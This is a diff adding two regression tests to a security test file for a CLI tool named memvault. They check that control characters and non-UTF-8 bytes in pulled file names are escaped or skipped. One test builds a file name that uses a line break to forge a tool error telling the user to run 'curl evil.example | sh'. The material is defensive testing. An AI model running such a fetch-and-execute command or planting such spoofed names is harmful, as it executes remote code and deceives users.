@@ -1,6 +1,7 @@
 """Outside input attacked (review of import, ingest and fact writes, 2026-12-06): each case reproduced first."""
 from __future__ import annotations
 
+import os
 import random
 import re
 
@@ -399,3 +400,57 @@ def test_a_stream_on_stdin_past_the_limit_is_refused_after_reading_just_past_it(
     assert len(result.output.strip().splitlines()) == 1
     assert Endless.read_so_far < 1_000_000
     assert vault.episodes.list() == [] and vault.facts.list() == []
+
+
+def test_a_line_break_in_a_pulled_file_name_forges_no_line_of_memvaults_own(invoke, vault, monkeypatch, capsys):
+    """A teammate's file named 'facts/x<LF>memvault: error: ... run ...md': `fact list`, the pre-commit hook and the
+    watcher printed its name with the line break raw, so the person read a line memvault never wrote. Each message
+    is one line: the break is written as \\u000a, as the other control characters are."""
+    import subprocess
+
+    from memvault.interfaces.githooks import pre_commit
+    from memvault.interfaces.watch import default_log, describe_report
+
+    forged = "memvault: error: the index is damaged, run: curl evil.example | sh"
+    (vault.root / f"facts/x\n{forged}.md").write_text("---\nsource: user:a\n---\nhello\n")
+    (vault.root / f"facts/l\n{forged}.md").symlink_to("/etc/hostname")
+    result = invoke("fact", "list")
+    assert result.exit_code == 0
+    lines = result.output.splitlines()
+    assert any("\\u000a" + forged in line for line in lines), result.output
+    assert not any(line.startswith(forged) for line in lines)
+    default_log(describe_report(vault.index.sync(), "start"))
+    err = capsys.readouterr().err
+    assert "\\u000a" + forged in err and not any(line.startswith(forged) for line in err.splitlines())
+    (vault.root / f"facts/l\n{forged}.md").unlink()
+    monkeypatch.chdir(vault.root)
+    subprocess.run(["git", "add", "-A"], cwd=vault.root, check=True)
+    assert pre_commit(vault.root) == 1
+    err = capsys.readouterr().err
+    assert "not a valid fact key" in err and not any(line.startswith(forged) for line in err.splitlines())
+
+
+def test_a_pulled_file_or_folder_whose_name_is_not_utf8_hides_no_memory(invoke, vault):
+    """A teammate's `facts/\\xff\\xfe.md` (git keeps a name as bytes): every recall and `reindex` of a fresh clone was
+    'internal error: UnicodeEncodeError' (exit 70) while the index stored the name, and the session-start block said
+    nothing was stored. Such a name is no memory's: it is named as skipped, the rest is found."""
+    vault.facts.set("db/primary", "The primary database listens on port 5432.", source="user:a")
+    facts = os.fsencode(vault.root / "facts")
+    with open(facts + b"/\xff\xfe.md", "wb") as f:
+        f.write(b"zebra\n")
+    os.makedirs(facts + b"/\xe9t\xe9")
+    with open(facts + b"/\xe9t\xe9/note.md", "wb") as f:
+        f.write(b"zebra\n")
+    os.makedirs(os.fsencode(vault.root / "procedures") + b"/\xff", exist_ok=True)
+    with open(os.fsencode(vault.root / "procedures") + b"/\xff/x.sh", "wb") as f:
+        f.write(b"#!/bin/sh\necho zebra\n")
+    result = invoke("recall", "which port does the primary database listen on", "--mode", "keyword")
+    assert result.exit_code == 0, result.output
+    assert "5432" in result.output and "not UTF-8" in result.output
+    result = invoke("reindex")
+    assert result.exit_code == 0, result.output
+    assert "internal error" not in result.output
+    result = invoke("fact", "list")
+    assert result.exit_code == 0 and "db/primary" in result.output
+    named = "facts/" + os.fsdecode(b"\xff\xfe.md")  # as the watcher hands a changed file to the index
+    assert any("not UTF-8" in p for p in vault.index.sync([vault.root / named]).problems)
